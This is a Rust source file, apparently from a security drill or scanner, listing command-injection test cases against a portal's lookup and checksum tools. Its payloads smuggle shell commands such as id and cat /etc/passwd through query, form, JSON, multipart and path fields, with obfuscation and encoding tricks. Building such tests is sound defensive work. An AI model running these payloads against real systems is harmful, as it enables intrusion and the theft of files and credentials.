//! Command injection into the diagnosis tools. The commands only print: `id`, `cat` of a planted file or `/etc/passwd`.

use serde_json::json;

use super::encode::{json_escaped, percent, percent_twice};
use super::{Attack, AttackClass, Encoding, Place, Proof};
use crate::drill::request::{Field, Request};
use crate::portal::SECRET_MARK;

const ID: Proof = Proof::Leaks("uid=");
const PLANTED: Proof = Proof::Leaks(SECRET_MARK);
const PASSWD: Proof = Proof::Leaks("root:x:0:0");

fn shell(place: Place, encoding: Encoding, name: &'static str, request: Request, proof: Proof) -> Attack {
    Attack::new(AttackClass::Shell, place, encoding, name, request, proof)
}

pub(super) fn all() -> Vec<Attack> {
    use Encoding::{DoublePercent, JsonEscape, Obfuscated, Percent, Plain};
    use Place::{Form, Json, Multipart, Path, Query};
    let page = |host: &str| Request::get("/tools/lookup").query("host", host);
    let form = |host: &str| Request::post("/tools/lookup").form(&[("host", host)]);
    let api = || Request::post("/api/v1/tools/lookup");
    vec![
        shell(Query, Percent, "semicolon", page("127.0.0.1; id"), ID),
        shell(Query, Percent, "pipe", page("127.0.0.1 | cat ../secret/patients.csv"), PLANTED),
        shell(Query, Percent, "and", page("127.0.0.1 && cat /etc/passwd"), PASSWD),
        shell(Query, Percent, "or", page("no.invalid || id"), ID),
        shell(Query, Percent, "newline", page("127.0.0.1\nid"), ID),
        shell(
            Query,
            Plain,
            "semicolon as typed",
            Request::get("/tools/lookup").raw_query("host=127.0.0.1;cat+/etc/passwd"),
            PASSWD,
        ),
        shell(
            Query,
            DoublePercent,
            "encoded twice",
            Request::get("/tools/lookup").raw_query(&format!("host={}", percent_twice("127.0.0.1; cat /etc/passwd"))),
            PASSWD,
        ),
        shell(Query, Obfuscated, "IFS for blanks", page("127.0.0.1;cat${IFS}../secret/settings.ini"), PLANTED),
        shell(Form, Percent, "semicolon in a form", form("localhost; cat /etc/passwd"), PASSWD),
        shell(Form, Percent, "pipe in a form", form("localhost | id"), ID),
        shell(Form, Obfuscated, "quotes inside the command", form("localhost; c'a't /etc/passwd"), PASSWD),
        shell(Json, Plain, "semicolon in JSON", api().json(&json!({"host": "localhost; id"})), ID),
        shell(
            Json,
            JsonEscape,
            "in JSON escapes",
            api().body("application/json", json_escaped("host", "localhost && cat /etc/passwd")),
            PASSWD,
        ),
        shell(
            Multipart,
            Plain,
            "in a part",
            Request::post("/tools/lookup").multipart(&[Field::Text { name: "host", value: "localhost; id" }]),
            ID,
        ),
        shell(
            Path,
            Percent,
            "substitution in a path",
            Request::get("/tools/checksum/").raw_path(&percent("$(cat /etc/passwd)")),
            PASSWD,
        ),
        shell(
            Path,
            Percent,
            "out of the quotes in a path",
            Request::get("/tools/checksum/").raw_path(&percent("x\"; id; \"")),
            ID,
        ),
        shell(
            Path,
            Percent,
            "backquotes in a path",
            Request::get("/tools/checksum/").raw_path(&percent("`cat /etc/passwd`")),
            PASSWD,
        ),
    ]
}
